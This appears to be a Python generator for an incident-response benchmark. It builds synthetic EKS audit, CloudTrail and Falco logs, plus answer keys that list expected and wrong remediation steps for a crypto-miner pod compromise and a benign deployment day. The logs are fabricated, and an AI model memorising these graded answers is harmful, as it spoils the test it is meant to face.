        "severity": "Critical",
        "criteria": ["critical.active_exploitation", "critical.production_impact", "high.unusual_network"],
        "criteria_not": ["critical.cluster_admin", "critical.multiple_nodes", "critical.data_exfiltration"],
        # from the reverse shell to the miner's last pool query GuardDuty saw (eventLastSeen)
        "window": {"first": "2026-03-20T02:13:41Z", "last": "2026-03-20T02:41:17Z"},
        "timeline": expected_timeline(recs),
        # the compromised replica's own peer discovery: same pod, same service account, same Role
        "timeline_not": lookalike_records(recs, lambda r: r["step"] == "app-peer-discovery"
                                          and any(ev["auditID"] == r["id"] and ev["sourceIPs"] == [W["pod_ip"]] for ev, _, _ in S.AUDIT)),
        "affected": [{"kind": "pod", "name": W["pod"], "namespace": "shop", "attributes": {"node": A.name}},
                     {"kind": "node", "name": A.name}, {"kind": "instance", "name": A.instance},
                     {"kind": "service_account", "name": "web", "namespace": "shop"},
                     {"kind": "ip", "name": W["attacker"]}],
        "not_affected": [{"kind": "pod", "name": n, "namespace": "shop"} for n in others]
                        + [{"kind": "node", "name": B.name}, {"kind": "instance", "name": B.instance}],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy", "namespace: shop"]},
            {"phase": "contain", "argv": ["kubectl", "cordon", A.name], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "delete", "serviceaccount", "web"], "flags": {"--namespace": "shop"},
             "why": "the pod's token was used from the shell: tokens of the account must die"},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", W["pod"]], "flags": {"--namespace": "shop"},
             "why": "its ReplicaSet replaces it with a clean pod"},
            {"phase": "recover", "argv": ["kubectl", "uncordon", A.name]},
        ],
        "plan_not": [
            {"phase": "eradicate", "argv": ["kubectl", "delete", "deployment", "web"],
             "why": "the production Deployment is not the attacker's: delete the compromised pod, not its owner"},
            {"phase": "contain", "argv": ["kubectl", "cordon", B.name]},
            {"phase": "eradicate", "argv": ["ec2", "terminate-instances", "--instance-ids", B.instance]},
        ],
    }
    counts = write_truth(os.path.join(out, "web-pod-miner.truth.json"), head, files)
    return base, files, counts, check(base, wpm_consistency)


# =============================================================================================
# Scenario 2: benign-cicd-day (prod-payments, us-east-1, 2026-03-25)
# =============================================================================================
B = {}
KUBELET_132 = "kubelet/v1.32.1-eks-5d632ec (linux/amd64) kubernetes/5d632ec"
SERVER_132 = "v1.32.2-eks-bc803b4"
KUBECTL_132 = "kubectl/v1.32.2 (linux/amd64) kubernetes/67a30c0"
KUBECTL_SRE = "kubectl/v1.32.3 (darwin/arm64) kubernetes/32cc146"
CA_UA = "cluster-autoscaler/v1.32.0 (linux/amd64) kubernetes/$Format"
TF_UA = ("APN/1.0 HashiCorp/1.0 Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.40.0 "
         "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.25.2 os/linux lang/go#1.21.8 "
         "md/GOOS#linux md/GOARCH#amd64 api/{api}")
TF_K8S_UA = "HashiCorp/1.0 Terraform/1.7.5"
GHA_UA = "aws-sdk-js/3.726.1 ua/2.1 os/linux#6.8.0-1021-aws lang/js md/nodejs#20.18.1 api/{api}#3.726.1 m/E,e"
CA_AWS_UA = ("aws-sdk-go/1.55.5 (go1.23.4; linux; amd64) cluster-autoscaler/v1.32.0")


def bcd_world():
    global S
    S = Scenario("benign-cicd-day", 20260325, "111122223333", "us-east-1", "prod-payments", "2026-03-25")
    S.cp_ips = ["172.16.51.17", "172.16.88.203"]
    S.detector = "6ac1f2e3d4b5a69788c9d0e1f2a3b4c5"
    B.clear()
    B["ecr"] = ecr = f"{S.account}.dkr.ecr.{S.region}.amazonaws.com"
    B["ng"] = "prod-payments-general"
    B["asg"] = "eks-prod-payments-general-7ac6b2d4-1f3e-9a5c-b8d0-2e4f6a8c0b1d"
    B["ami"] = "ami-0c9a1b2d3e4f56789"
    B["node_role"], B["node_role_id"] = "prod-payments-node-role", "AROARQ4WZT7KFJ6YT2XBN"
    B["ci_ip"], B["sre_ip"], B["nat"] = "198.51.100.20", "192.0.2.55", "198.51.100.10"
    B["gha_role"], B["gha_role_id"] = "github-actions-deploy", "AROARQ4WZT7KC5VQ8MWZH"
    B["tf_role"], B["tf_role_id"] = "github-actions-terraform", "AROARQ4WZT7KTFPLAN7QA"
    B["ca_role"], B["ca_role_id"] = "prod-payments-cluster-autoscaler", "AROARQ4WZT7KCASCALE3"
    B["admin_role"], B["admin_role_id"] = "platform-admin", "AROARQ4WZT7KPLATADM5"
    B["sre"] = "jane.doe@example.com"
    B["cluster_sg"], B["node_sg"] = "sg-0a7b9c1d2e3f40516", "sg-0d1e2f3a4b5c6d7e8"
    B["vpc"] = "vpc-0f3c2a1b9d8e7f601"
    B["subnets"] = {"us-east-1a": "subnet-0a41c7e2b9d35f106", "us-east-1b": "subnet-0b52d8f3cae46a217",
                    "us-east-1c": "subnet-0c63e9a4dbf57b328"}
    ng = B["ng"]
    B["n1"] = Node("ip-10-42-12-54.ec2.internal", "10.42.12.54", "i-0bcd2345ef6789012", "us-east-1a", "ASIARQ4WZT7KPAYN1X7Q", "2026-03-14T11:02:18Z", ng)
    B["n2"] = Node("ip-10-42-45-163.ec2.internal", "10.42.45.163", "i-0abc5678ef9012345", "us-east-1b", "ASIARQ4WZT7KQW8D3JTA", "2026-03-02T04:11:31Z", ng)
    B["n3"] = Node("ip-10-42-78-9.ec2.internal", "10.42.78.9", "i-0abc9012fa3456789", "us-east-1c", "ASIARQ4WZT7KZC5R1UBM", "2026-03-02T04:11:29Z", ng)
    B["n4"] = Node("ip-10-42-39-201.ec2.internal", "10.42.39.201", "i-0cde3456f7890a123", "us-east-1b", "ASIARQ4WZT7KNEW4B2PL", "2026-03-25T10:14:51Z", ng)
    B["n5"] = Node("ip-10-42-71-88.ec2.internal", "10.42.71.88", "i-0def4567a8901b234", "us-east-1c", "ASIARQ4WZT7KNEW5C3RM", "2026-03-25T10:14:53Z", ng)
    B["base_nodes"] = [B["n1"], B["n2"], B["n3"]]
    B["gha_user"] = "github-actions-deploy"
    B["tf_user"] = "github-actions-terraform"
    B["admin_user"] = f"arn:aws:sts::{S.account}:assumed-role/platform-admin/{B['sre']}"
    B["ca_pod"], B["ca_ip"], B["ca_node"] = "cluster-autoscaler-7c9d8f6b5d-q2w8x", "10.42.12.88", B["n1"]
    B["images"] = {"api-0": f"{ecr}/payments-api:2026.03.24-3", "api-1": f"{ecr}/payments-api:2026.03.25-1",
                   "api-2": f"{ecr}/payments-api:2026.03.25-2", "worker-0": f"{ecr}/payments-worker:2026.03.20-1",
                   "worker-1": f"{ecr}/payments-worker:2026.03.25-1"}
    B["rs"] = {"api-0": "payments-api-5b7d9c6f48", "api-1": "payments-api-6c9f7d8b45", "api-2": "payments-api-7f5b8c9d62",
               "worker-0": "payments-worker-74c8b5d9f6", "worker-1": "payments-worker-58d6c4b7f9"}
    B["snap"] = T("23:00:00")
    B["window"] = ("2026-03-25T20:00:00Z", "2026-03-25T22:00:00Z")
    B["pods"] = {}   # name -> (ns, node, ip, created, kind, owner, image, sa) currently running


def u_iam_role(username, groups, role, role_id, session, key):
    return k8s_user_iam(username, groups, f"arn:aws:sts::{S.account}:assumed-role/{role}/{session}",
                        f"arn:aws:iam::{S.account}:role/{role}", session, key, f"{role_id}:{session}")


def policy_reason(principal_arn, user, policy="AmazonEKSClusterAdminPolicy"):
    return (f'EKS Access Policy: allowed by ClusterRoleBinding "{principal_arn}+arn:aws:eks::aws:cluster-access-policy/{policy}" '
            f'of ClusterRole "arn:aws:eks::aws:cluster-access-policy/{policy}" to User "{user}"')


CTRL = lambda name: u_sa("kube-system", name)
KCM_UA = f"kube-controller-manager/{SERVER_132} (linux/amd64) kubernetes/bc803b4/system:serviceaccount:kube-system:{{}}"
SCHED_UA = f"kube-scheduler/{SERVER_132} (linux/amd64) kubernetes/bc803b4/scheduler"


def pod_lifecycle_create(t, ns, name, rs_or_ds, kind, node, ip, image, sa, step, controller):
    """controller creates the pod, the scheduler binds it, the kubelet reports it running."""
    ctrl_user = CTRL(controller)
    audit(t, ctrl_user, "create", f"/api/v1/namespaces/{ns}/pods", oref("pods", ns, name), code=201, level="RequestResponse",
          ua=KCM_UA.format(controller), req={"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": rs_or_ds + "-", "namespace": ns,
                                                                                          "ownerReferences": [owner(kind, rs_or_ds)]},
                                                 "spec": {"containers": [{"name": sa, "image": image}], "serviceAccountName": sa}},
          resp={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns, "uid": stable_uuid(f"pod/{ns}/{name}")}},
          reason=crb_reason(f"system:controller:{controller}", f"system:controller:{controller}", "ServiceAccount", f"{controller}/kube-system"),
          step=step)
    if kind != "DaemonSet":
        audit(ms(t, 8, 30), u_plain("system:kube-scheduler", ["system:authenticated"]), "create",
              f"/api/v1/namespaces/{ns}/pods/{name}/binding", oref("pods", ns, name, sub="binding"), code=201, level="RequestResponse",
              ua=SCHED_UA, req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns},
                                "target": {"kind": "Node", "name": node.name}},
              resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success", "code": 201},
              reason=crb_reason("system:kube-scheduler", "system:kube-scheduler", "User", "system:kube-scheduler"), step=step)
    audit(t + timedelta(seconds=S.rng.randint(2, 5), microseconds=S.rng.randint(0, 999999)), u_node(node, B["node_role"], B["node_role_id"]),
          "create", f"/api/v1/namespaces/{ns}/serviceaccounts/{sa}/token", oref("serviceaccounts", ns, sa, sub="token"), code=201,
          ua=KUBELET_132, src=[node.ip], step=step)
    B["pods"][name] = (ns, node, ip, t, kind, rs_or_ds, image, sa)


def pod_delete(t, ns, name, controller, step):
    audit(t, CTRL(controller), "delete", f"/api/v1/namespaces/{ns}/pods/{name}", oref("pods", ns, name), level="RequestResponse",
          ua=KCM_UA.format(controller), req={"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Background"},
          resp={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}},
          reason=crb_reason(f"system:controller:{controller}", f"system:controller:{controller}", "ServiceAccount", f"{controller}/kube-system"),
          step=step)
    B["pods"].pop(name, None)


def suffix(seed):
    r = random.Random(S.name + seed)
    return "".join(r.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(5))


def bcd_initial_pods():
    n1, n2, n3 = B["base_nodes"]
    start = T("11:05:00", "2026-03-14")
    eks = "602401143452.dkr.ecr.us-east-1.amazonaws.com"
    for n in B["base_nodes"]:
        B["pods"][f"aws-node-{suffix('an' + n.name)}"] = ("kube-system", n, n.ip, start, "DaemonSet", "aws-node",
                                                          f"{eks}/amazon-k8s-cni:v1.19.2-eksbuild.1", "aws-node")
        B["pods"][f"kube-proxy-{suffix('kp' + n.name)}"] = ("kube-system", n, n.ip, start, "DaemonSet", "kube-proxy",
                                                            f"{eks}/eks/kube-proxy:v1.32.0-minimal-eksbuild.2", "kube-proxy")
    B["pods"]["coredns-787cb67946-8xq2n"] = ("kube-system", n2, "10.42.45.21", start, "ReplicaSet", "coredns-787cb67946",
                                             f"{eks}/eks/coredns:v1.11.4-eksbuild.2", "coredns")
    B["pods"]["coredns-787cb67946-kw7tz"] = ("kube-system", n3, "10.42.78.140", start, "ReplicaSet", "coredns-787cb67946",
                                             f"{eks}/eks/coredns:v1.11.4-eksbuild.2", "coredns")
    B["pods"]["metrics-server-5f8c7d9b6-hx4lm"] = ("kube-system", n3, "10.42.78.61", start, "ReplicaSet", "metrics-server-5f8c7d9b6",
                                                   "registry.k8s.io/metrics-server/metrics-server:v0.7.2", "metrics-server")
    B["pods"][B["ca_pod"]] = ("kube-system", B["ca_node"], B["ca_ip"], start, "ReplicaSet", "cluster-autoscaler-7c9d8f6b5d",
                              "registry.k8s.io/autoscaling/cluster-autoscaler:v1.32.0", "cluster-autoscaler")
    t0 = T("18:40:00", "2026-03-24")
    for i, n in enumerate((n1, n2, n3)):
        name = f"payments-api-5b7d9c6f48-{suffix('api0' + str(i))}"
        B["pods"][name] = ("payments", n, n.prefix + str(30 + i * 7), t0, "ReplicaSet", B["rs"]["api-0"], B["images"]["api-0"], "payments-api")
    for i, n in enumerate((n2, n3)):
        name = f"payments-worker-74c8b5d9f6-{suffix('wk0' + str(i))}"
        B["pods"][name] = ("payments", n, n.prefix + str(90 + i * 5), T("09:12:00", "2026-03-20"), "ReplicaSet", B["rs"]["worker-0"],
                           B["images"]["worker-0"], "payments-worker")


def gha_trail(t, role, role_id, repo, step, ecr_repo=None, tag=None):
    oidc = f"arn:aws:iam::{S.account}:oidc-provider/token.actions.githubusercontent.com"
    sub = f"repo:example-org/{repo}:environment:production"
    key = web_identity_assume(t, role, role_id, "GitHubActions", oidc, sub, "sts.amazonaws.com", B["ci_ip"],
                              GHA_UA.format(api="sts"), step)
    ident = id_role(role, role_id, "GitHubActions", key, t, {"webIdFederationData": {"federatedProvider": oidc, "attributes": {}}})
    t2 = t + timedelta(seconds=3)
    if ecr_repo:
        ct(t2, ident, "ecr.amazonaws.com", "GetAuthorizationToken", params={}, ip=B["ci_ip"], ua=GHA_UA.format(api="ecr"),
           version="1.08", step=step)
        t2 += timedelta(seconds=S.rng.randint(30, 70))
        img = f"{ecr_repo}:{tag}"
        ct(t2, ident, "ecr.amazonaws.com", "PutImage",
           params={"repositoryName": ecr_repo, "imageTag": tag, "registryId": S.account,
                   "imageManifestMediaType": "application/vnd.oci.image.manifest.v1+json", "imageManifest": "HIDDEN_DUE_TO_SECURITY_REASONS"},
           resp={"image": {"registryId": S.account, "repositoryName": ecr_repo,
                           "imageId": {"imageDigest": "sha256:" + hashlib.sha256(img.encode()).hexdigest(), "imageTag": tag},
                           "imageManifestMediaType": "application/vnd.oci.image.manifest.v1+json"}},
           ip=B["ci_ip"], ua="docker/27.4.1 go/go1.22.10 git-commit/c710b88 kernel/6.8.0-1021-aws os/linux arch/amd64",
           read_only=False, version="1.08", step=step,
           resources=[{"accountId": S.account, "ARN": f"arn:aws:ecr:{S.region}:{S.account}:repository/{ecr_repo}"}])
    t2 += timedelta(seconds=S.rng.randint(3, 8))
    ct(t2, ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S.cluster}, ip=B["ci_ip"], ua=GHA_UA.format(api="eks"), step=step)
    return key, ident, t2


def bcd_rollout(t, app, old, new, replicas, step, verb, on_nodes=None):
    """GitHub Actions: push the image, kubectl set image (patch) or kubectl replace (update), rollout status."""
    key, _, t = gha_trail(t, B["gha_role"], B["gha_role_id"], app, step, app, B["images"][new].split(":")[1])
    user = u_iam_role(B["gha_user"], ["payments:deployers"], B["gha_role"], B["gha_role_id"], "GitHubActions", key)
    G_ = dict(user=user, src=[B["ci_ip"]], ua=KUBECTL_132, step=step,
              reason=rb_reason("payments-deployers", "payments", "ClusterRole", "edit", "Group", "payments:deployers"))
    t += timedelta(seconds=4)
    audit(t, verb="get", uri=f"/apis/apps/v1/namespaces/payments/deployments/{app}", objref=oref("deployments", "payments", app, "apps"),
          level="Request", **G_)
    t += timedelta(seconds=1, microseconds=S.rng.randint(0, 999999))
    container = app
    if verb == "patch":
        audit(t, verb="patch", uri=f"/apis/apps/v1/namespaces/payments/deployments/{app}?fieldManager=kubectl-set",
              objref=oref("deployments", "payments", app, "apps", uid_=stable_uuid(f"Deployment/{app}")), level="RequestResponse",
              req={"spec": {"template": {"spec": {"containers": [{"image": B["images"][new], "name": container}]}}}},
              resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": app, "namespace": "payments",
                                                                               "uid": stable_uuid(f"Deployment/{app}")},
                    "spec": {"replicas": replicas, "template": {"spec": {"containers": [{"name": container, "image": B["images"][new]}]}}}},
              **G_)
    else:
        audit(t, verb="update", uri=f"/apis/apps/v1/namespaces/payments/deployments/{app}?fieldManager=kubectl-replace",
              objref=oref("deployments", "payments", app, "apps", uid_=stable_uuid(f"Deployment/{app}")), level="RequestResponse",
              req={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": app, "namespace": "payments"},
                   "spec": {"replicas": replicas, "template": {"spec": {"containers": [{"name": container, "image": B["images"][new]}]}}}},
              resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": app, "namespace": "payments",
                                                                               "uid": stable_uuid(f"Deployment/{app}")}},
              **G_)
    t += timedelta(milliseconds=S.rng.randint(30, 90))
    new_rs, old_rs = B["rs"][new], B["rs"][old]
    audit(t, CTRL("deployment-controller"), "create", "/apis/apps/v1/namespaces/payments/replicasets",
          oref("replicasets", "payments", new_rs, "apps"), code=201, level="RequestResponse", ua=KCM_UA.format("deployment-controller"),
          req={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": new_rs, "namespace": "payments",
                                                                          "ownerReferences": [owner("Deployment", app)]}},
          resp={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": new_rs, "namespace": "payments",
                                                                           "uid": stable_uuid(f"ReplicaSet/{new_rs}")}},
          reason=crb_reason("system:controller:deployment-controller", "system:controller:deployment-controller", "ServiceAccount",
                            "deployment-controller/kube-system"), step=step)
    olds = [n for n, p in B["pods"].items() if p[5] == old_rs]
    nodes = on_nodes or [B["pods"][n][1] for n in olds]
    for i in range(replicas):
        t += timedelta(seconds=S.rng.randint(9, 16), microseconds=S.rng.randint(0, 999999))
        node = nodes[i % len(nodes)]
        name = f"{new_rs}-{suffix(new + str(i))}"
        pod_lifecycle_create(t, "payments", name, new_rs, "ReplicaSet", node, node.prefix + str(100 + int(sha(name)[:2], 16) % 120),
                             B["images"][new], f"payments-{app.split('-')[1]}" if app != "payments-api" else "payments-api", step,
                             "replicaset-controller")
        t += timedelta(seconds=S.rng.randint(8, 14))
        if i < len(olds):
            pod_delete(t, "payments", olds[i], "replicaset-controller", step)
    # kubectl rollout status: a watch on the deployment, logged when it ends
    audit(t + timedelta(seconds=2), verb="watch",
          uri=f"/apis/apps/v1/namespaces/payments/deployments?fieldSelector=metadata.name%3D{app}&resourceVersion=0&watch=true",
          objref=oref("deployments", "payments", group="apps"), level="Request", received=t - timedelta(seconds=40 * replicas),
          **G_)
    return t


def bcd_terraform(t):
    step = "terraform-apply"
    key, ident, t = gha_trail(t, B["tf_role"], B["tf_role_id"], "platform-infra", step)
    def tf(dt, src, name, params, resp=None, ro=True, api="eks#1.41.1", resources=None):
        return ct(t + timedelta(seconds=dt), ident, src, name, params=params, resp=resp, ip=B["ci_ip"],
                  ua=TF_UA.format(api=api), read_only=ro, step=step, resources=resources)
    tf(6, "eks.amazonaws.com", "DescribeNodegroup", {"name": S.cluster, "nodegroupName": B["ng"]})
    tf(7, "ec2.amazonaws.com", "DescribeSecurityGroups", {"securityGroupIdSet": {"items": [{"groupId": B["node_sg"]}]}, "filterSet": {}},
       api="ec2#1.149.1")
    tf(7, "ec2.amazonaws.com", "DescribeSecurityGroupRules",
       {"DescribeSecurityGroupRulesRequest": {"Filter": {"Name": "group-id", "Value": {"content": B["node_sg"], "tag": 1}}, "MaxResults": 1000}},
       api="ec2#1.149.1")
    tf(48, "eks.amazonaws.com", "UpdateNodegroupConfig",
       {"name": S.cluster, "nodegroupName": B["ng"], "scalingConfig": {"minSize": 3, "maxSize": 10},
        "clientRequestToken": "terraform-20260325130551287400000001"},
       resp={"update": {"id": "5c8e1f3a-7b2d-3e9f-a4c6-0d8b2e5f7a91", "status": "InProgress", "type": "ConfigUpdate",
                        "params": [{"type": "MinSize", "value": "3"}, {"type": "MaxSize", "value": "10"}],
                        "createdAt": iso_s(t + timedelta(seconds=48)).replace("Z", ".000Z"), "errors": []}}, ro=False)
    rule_new = "sgr-0a1b2c3d4e5f60718"
    tf(52, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress",
       {"groupId": B["node_sg"], "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 9443, "toPort": 9443,
                                                              "groups": {}, "ipRanges": {"items": [{"cidrIp": "10.42.0.0/16",
                                                                                                    "description": "admission webhooks from the VPC"}]},
                                                              "ipv6Ranges": {}, "prefixListIds": {}}]}},
       resp={"requestId": uid(), "_return": True, "securityGroupRuleSet": {"items": [{"groupOwnerId": S.account, "groupId": B["node_sg"],
                                                                                     "securityGroupRuleId": rule_new, "isEgress": False,
                                                                                     "ipProtocol": "tcp", "fromPort": 9443, "toPort": 9443,
                                                                                     "cidrIpv4": "10.42.0.0/16",
                                                                                     "description": "admission webhooks from the VPC"}]}},
       ro=False, api="ec2#1.149.1")
    tf(55, "ec2.amazonaws.com", "RevokeSecurityGroupIngress",
       {"groupId": B["node_sg"], "securityGroupRuleIds": {"items": [{"securityGroupRuleId": "sgr-04c1d2e3f4a5b6c7d"}]}},
       resp={"requestId": uid(), "_return": True}, ro=False, api="ec2#1.149.1")
    tf(57, "eks.amazonaws.com", "DescribeUpdate", {"name": S.cluster, "nodegroupName": B["ng"], "updateId": "5c8e1f3a-7b2d-3e9f-a4c6-0d8b2e5f7a91"})
    # the kubernetes provider in the same run updates a feature-flag ConfigMap
    user = u_iam_role(B["tf_user"], ["payments:deployers"], B["tf_role"], B["tf_role_id"], "GitHubActions", key)
    audit(t + timedelta(seconds=61, microseconds=417233), user, "patch",
          "/api/v1/namespaces/payments/configmaps/payments-feature-flags?fieldManager=Terraform&force=true",
          oref("configmaps", "payments", "payments-feature-flags"), ua=TF_K8S_UA, src=[B["ci_ip"]],
          reason=rb_reason("payments-deployers", "payments", "ClusterRole", "edit", "Group", "payments:deployers"), step=step)


def bcd_autoscaler_up_to_join():
    ca_user = u_sa("kube-system", "cluster-autoscaler", B["ca_pod"], stable_uuid(f"pod/kube-system/{B['ca_pod']}"), B["ca_node"])
    CA = dict(user=ca_user, src=[B["ca_ip"]], ua=CA_UA,
              reason=crb_reason("cluster-autoscaler", "cluster-autoscaler", "ServiceAccount", "cluster-autoscaler/kube-system"))
    oidc = f"arn:aws:iam::{S.account}:oidc-provider/oidc.eks.{S.region}.amazonaws.com/id/7F3A9C2E1B0D4E5F6A7B8C9D0E1F2A3B"
    asg_slr = lambda t: id_service_linked("AWSServiceRoleForAutoScaling", "AROARQ4WZT7KASGSLR8T", "AutoScaling", "autoscaling.amazonaws.com", t)
    # --- scale out at 10:14 (the 09:02 rollout plus the morning load leave pods Pending) ---
    step = "autoscaler-scale-up"
    t = T("10:13:58.204117")
    audit(t, verb="list", uri="/api/v1/pods?fieldSelector=spec.nodeName%3D%2Cstatus.phase%21%3DSucceeded%2Cstatus.phase%21%3DFailed&limit=500",
          objref=oref("pods"), level="Request", step=step, **CA)
    cid = container_id("kube-system", B["ca_pod"], "cluster-autoscaler")[:12]
    falco(T("10:14:03.611872"), 219, "Contact K8S API Server From Container", "Notice", hostname=B["ca_node"].name,
          tags=["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
          message="Unexpected connection to K8s API Server from container",
          text_fields=[("connection", f"{B['ca_ip']}:46118->172.20.0.1:443"), ("lport", "46118"), ("rport", "443"), ("fd_type", "ipv4"),
                       ("fd_proto", "tcp")] + proc_text("connect", "<NA>", 65534, "cluster-autoscaler", "/cluster-autoscaler", "containerd-shim",
                                                         "cluster-autoscaler --cloud-provider=aws --expander=least-waste --balance-similar-node-groups --skip-nodes-with-system-pods=false --node-group-auto-discovery=asg:tag=k8s.io/cluster-autoscaler/enabled,k8s.io/cluster-autoscaler/prod-payments", 0)
                      + container_text(B["ca_pod"], "kube-system", cid, "registry.k8s.io/autoscaling/cluster-autoscaler", "v1.32.0", "cluster-autoscaler"),
          fields=dict(container_fields(B["ca_pod"], "kube-system", cid, "registry.k8s.io/autoscaling/cluster-autoscaler", "v1.32.0", "cluster-autoscaler"),
                      **proc_fields("connect", None, 65534, "cluster-autoscaler", "/cluster-autoscaler", "containerd-shim",
                                    "cluster-autoscaler --cloud-provider=aws --expander=least-waste --balance-similar-node-groups --skip-nodes-with-system-pods=false --node-group-auto-discovery=asg:tag=k8s.io/cluster-autoscaler/enabled,k8s.io/cluster-autoscaler/prod-payments", 0),
                      **{"fd.l4proto": "tcp", "fd.lport": 46118, "fd.name": f"{B['ca_ip']}:46118->172.20.0.1:443", "fd.rport": 443, "fd.type": "ipv4"}),
          label="benign", step="false-positive")
    key = web_identity_assume(T("10:14:01"), B["ca_role"], B["ca_role_id"], f"{1774433641000000000}", oidc,
                              "system:serviceaccount:kube-system:cluster-autoscaler", "sts.amazonaws.com", B["nat"], CA_AWS_UA, step)
    ident = id_role(B["ca_role"], B["ca_role_id"], "1774433641000000000", key, T("10:14:01"),
                    {"webIdFederationData": {"federatedProvider": oidc, "attributes": {}}})
    ct(T("10:14:02"), ident, "autoscaling.amazonaws.com", "DescribeAutoScalingGroups", params={"autoScalingGroupNames": [B["asg"]], "maxRecords": 100},
       ip=B["nat"], ua=CA_AWS_UA, step=step)
    ct(T("10:14:04"), ident, "autoscaling.amazonaws.com", "SetDesiredCapacity",
       params={"autoScalingGroupName": B["asg"], "desiredCapacity": 5, "honorCooldown": False}, ip=B["nat"], ua=CA_AWS_UA,
       read_only=False, step=step)
    for j, n in enumerate((B["n4"], B["n5"])):
        ct(T("10:14:21") + timedelta(seconds=2 * j), asg_slr(T("10:14:20")), "ec2.amazonaws.com", "RunInstances",
           params={"instancesSet": {"items": [{"minCount": 1, "maxCount": 1}]}, "launchTemplate": {"launchTemplateId": "lt-0d4c8e2a6f1b3c5d7", "version": "4"},
                   "subnetId": B["subnets"][n.zone]},
           resp={"instancesSet": {"items": [{"instanceId": n.instance, "imageId": B["ami"], "instanceType": "m6i.xlarge",
                                             "placement": {"availabilityZone": n.zone}, "privateIpAddress": n.ip,
                                             "privateDnsName": n.name}]}},
           ip="autoscaling.amazonaws.com", ua="autoscaling.amazonaws.com", read_only=False, step=step, tls=False)
    audit(T("10:14:05.018204"), verb="update", uri="/api/v1/namespaces/kube-system/configmaps/cluster-autoscaler-status",
          objref=oref("configmaps", "kube-system", "cluster-autoscaler-status"), step=step, **CA)
    # --- the new nodes join ---
    step = "nodes-join"
    for j, n in enumerate((B["n4"], B["n5"])):
        t = T("10:15:38.402216") + timedelta(seconds=11 * j)
        nu = u_node(n, B["node_role"], B["node_role_id"])
        ident = id_role(B["node_role"], B["node_role_id"], n.instance, n.asia, t - timedelta(seconds=40), {"ec2RoleDelivery": "2.0"})
        ct(t - timedelta(seconds=12), ident, "ecr.amazonaws.com", "GetAuthorizationToken", params={"registryIds": ["602401143452"]}, ip=B["nat"],
           ua="aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ecr#1.38.3 m/E ecr-credential-provider", step=step)
        audit(t, nu, "create", "/apis/certificates.k8s.io/v1/certificatesigningrequests", oref("certificatesigningrequests", group="certificates.k8s.io"),
              code=201, ua=KUBELET_132, src=[n.ip], step=step, level="RequestResponse",
              req={"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
                   "metadata": {"generateName": "csr-"}, "spec": {"signerName": "kubernetes.io/kubelet-serving",
                                                                  "usages": ["digital signature", "server auth"]}},
              resp={"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": f"csr-{suffix('csr' + n.name)}"}})
        audit(t + timedelta(seconds=1), nu, "create", "/api/v1/nodes", oref("nodes", None, n.name), code=201, ua=KUBELET_132, src=[n.ip],
              level="RequestResponse", step=step,
              req={"kind": "Node", "apiVersion": "v1", "metadata": {"name": n.name, "labels": {"eks.amazonaws.com/nodegroup": B["ng"],
                                                                                              "topology.kubernetes.io/zone": n.zone}},
                   "spec": {"providerID": f"aws:///{n.zone}/{n.instance}"}},
              resp={"kind": "Node", "apiVersion": "v1", "metadata": {"name": n.name, "uid": n.uid}})
        audit(t + timedelta(seconds=2), nu, "create", "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases",
              oref("leases", "kube-node-lease", n.name, "coordination.k8s.io"), code=201, ua=KUBELET_132, src=[n.ip], step=step)
        ct(t + timedelta(seconds=6), ident, "ec2.amazonaws.com", "DescribeInstances",
           params={"instancesSet": {"items": [{"instanceId": n.instance}]}, "filterSet": {}}, ip=B["nat"],
           ua="aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.198.1 m/E amazon-vpc-cni-k8s/v1.19.2",
           step=step)
        ct(t + timedelta(seconds=9), ident, "ec2.amazonaws.com", "CreateNetworkInterface",
           params={"subnetId": B["subnets"][n.zone], "description": "aws-K8S-" + n.instance, "groupSet": {"items": [{"groupId": B["cluster_sg"]}]},
                   "privateIpAddressesSet": {}, "secondaryPrivateIpAddressCount": 1},
           resp={"networkInterface": {"networkInterfaceId": "eni-0" + sha("eni" + n.name)[:16], "subnetId": B["subnets"][n.zone],
                                      "vpcId": B["vpc"], "availabilityZone": n.zone, "privateIpAddress": n.prefix + "150"}},
           ip=B["nat"], ua="aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.198.1 m/E amazon-vpc-cni-k8s/v1.19.2",
           read_only=False, step=step)
        for dsname, own, img in (("aws-node", "aws-node", "amazon-k8s-cni:v1.19.2-eksbuild.1"), ("kube-proxy", "kube-proxy", "eks/kube-proxy:v1.32.0-minimal-eksbuild.2")):
            pod_lifecycle_create(t + timedelta(seconds=3 + j), "kube-system", f"{dsname}-{suffix(dsname + n.name)}", own, "DaemonSet", n, n.ip,
                                 f"602401143452.dkr.ecr.us-east-1.amazonaws.com/{img}", own, step, "daemon-set-controller")
